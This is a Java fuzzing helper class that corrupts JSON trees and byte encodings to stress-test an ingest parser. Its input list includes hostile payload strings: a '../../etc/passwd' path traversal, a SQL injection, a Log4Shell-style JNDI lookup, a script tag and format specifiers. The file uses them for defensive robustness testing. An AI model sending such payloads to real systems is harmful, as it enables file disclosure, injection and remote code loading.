package parley.ingest.door;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/// Spoils what was good: a value, a name, the text, or its bytes.
final class Mischief {
    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
    private static final String[] TEXTS = {
        "",
        " ",
        "\u0000",
        "\u202eevil",
        "\u200b",
        "\ud800",
        "\ufeff",
        "2025-02-30",
        "9999-12-31/0000-01-01",
        "../../etc/passwd",
        "' or 1=1 --",
        "${jndi:ldap://example.org/a}",
        "<script>",
        "%n%s%d",
        "RUS",
        "x".repeat(5_000)
    };
    private static final String[] TOKENS = {
        "NaN",
        "-Infinity",
        "1e999",
        "-0",
        "1e-999",
        "9".repeat(90),
        "9".repeat(5_000),
        "0.1e+5",
        "00",
        "0x1f",
        "'a'",
        "[".repeat(2_000),
        "{\"a\":".repeat(60) + "1" + "}".repeat(60),
        "\"\\ud800\"",
        "\"\\u0000\"",
        "\"\t\"",
        "/* a */ 1"
    };

    private final Random random;

    Mischief(Random random) {
        this.random = random;
    }

    /// Puts something else in the place of a value, or beside it, somewhere in the tree.
    void spoil(JsonNode tree) {
        List<JsonNode> containers = new ArrayList<>();
        gather(tree, containers);
        if (containers.isEmpty()) {
            return;
        }
        switch (containers.get(random.nextInt(containers.size()))) {
            case ObjectNode object -> {
                List<String> names = new ArrayList<>();
                object.fieldNames().forEachRemaining(names::add);
                String name = names.isEmpty() ? "a" : names.get(random.nextInt(names.size()));
                switch (random.nextInt(3)) {
                    case 0 -> object.remove(name);
                    case 1 -> object.set(name + text(), value());
                    default -> object.set(name, value());
                }
            }
            case ArrayNode array -> {
                if (random.nextBoolean() || array.isEmpty()) {
                    array.add(value());
                } else {
                    array.add(array.get(0));
                }
            }
            default -> throw new IllegalStateException("Neither an object nor an array");
        }
    }

    /// The text as bytes, some of which may be others than they were.
    byte[] spoiled(String text) {
        return switch (random.nextInt(8)) {
            case 0 -> replaced(text, TOKENS[random.nextInt(TOKENS.length)]).getBytes(UTF_8);
            case 1 -> text.substring(0, random.nextInt(text.length() + 1)).getBytes(UTF_8);
            case 2 -> text.getBytes(ISO_8859_1);
            case 3 -> text.getBytes(UTF_16LE);
            case 4 -> text.replaceFirst("\\{", "{\"conflict\":1,").getBytes(UTF_8);
            case 5 -> {
                byte[] bytes = text.getBytes(UTF_8);
                for (int flips = random.nextInt(1, 4); flips > 0 && bytes.length > 0; flips--) {
                    bytes[random.nextInt(bytes.length)] = (byte) random.nextInt(256);
                }
                yield bytes;
            }
            case 6 -> (text + text).getBytes(UTF_8);
            default -> text.getBytes(UTF_8);
        };
    }

    private String replaced(String text, String token) {
        int colon = text.indexOf(':', random.nextInt(text.length() + 1));
        int end = Math.max(text.indexOf(',', colon + 1), colon + 1);
        return colon < 0 ? token : text.substring(0, colon + 1) + token + text.substring(end);
    }

    private JsonNode value() {
        return switch (random.nextInt(8)) {
            case 0 -> NODES.nullNode();
            case 1 -> NODES.booleanNode(true);
            case 2 -> NODES.numberNode(random.nextInt());
            case 3 -> NODES.numberNode(random.nextDouble() * 1e9);
            case 4 -> NODES.objectNode().put("a", text());
            case 5 -> NODES.arrayNode().add(text()).add(NODES.nullNode());
            default -> NODES.textNode(text());
        };
    }

    private String text() {
        return TEXTS[random.nextInt(TEXTS.length)];
    }

    private static void gather(JsonNode node, List<JsonNode> containers) {
        if (node.isContainerNode()) {
            containers.add(node);
            node.forEach(child -> gather(child, containers));
        }
    }
}
